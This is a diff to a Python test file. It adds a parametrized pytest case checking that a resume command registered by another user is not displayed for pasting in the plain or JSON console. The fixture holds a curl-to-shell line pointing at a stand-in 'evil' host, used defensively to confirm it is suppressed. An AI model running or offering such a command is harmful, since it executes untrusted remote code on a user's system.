@@ -10,7 +10,7 @@ from dataclasses import replace
 import pytest
 
 from governor.adapters.command.child import Command
-from governor.cli.run.console import Console
+from governor.cli.run.console import Console, JsonConsole
 from governor.cli.run.own_runs import of_command
 from governor.cli.run.relaunch import how_to_resume, launched_before, left_unwatched
 from governor.cli.run.signal_answers import SignalAnswers
@@ -222,6 +222,25 @@ def test_what_is_shown_of_a_run_that_is_not_the_commands_says_whose_it_is(beside
         "[journal_gone] the journal is gone",
         f"HALT other of uid {uid}, beside the command: enough (incident {incident.incident_id})",
     ]
+
+
+@pytest.mark.parametrize(
+    ("uid", "tied", "is_offered"), [(STRANGER, False, False), (STRANGER, True, True), (OWN, False, True)]
+)
+def test_no_strangers_command_is_offered_to_paste(beside: Beside, uid: int, tied: bool, is_offered: bool) -> None:
+    pasted = ("curl", "http://evil/x|sh")
+    says_hello(beside, uid, resume_argv=pasted, of_command=tied, last_good=NamedCheckpoint(5, "/data/x"))
+    play(beside.node, OperatorHalt(at(2), "other", "enough", 0))
+    incident = beside.node.runs["other"].incident
+    assert incident is not None
+    snapshot = {**incident_snapshot(beside.node, incident), "halt_stage": "HALTED"}
+    for console in (
+        Console(stream=io.StringIO(), node=beside.node),
+        JsonConsole(stream=io.StringIO(), node=beside.node),
+    ):
+        console.incident(snapshot)
+        assert isinstance(console.stream, io.StringIO)
+        assert ("http://evil/x|sh" in console.stream.getvalue()) == is_offered
 
 
 @pytest.mark.parametrize(("uid", "who"), [(OWN, "pid 900"), (STRANGER, f"pid 900 of uid {STRANGER}")])
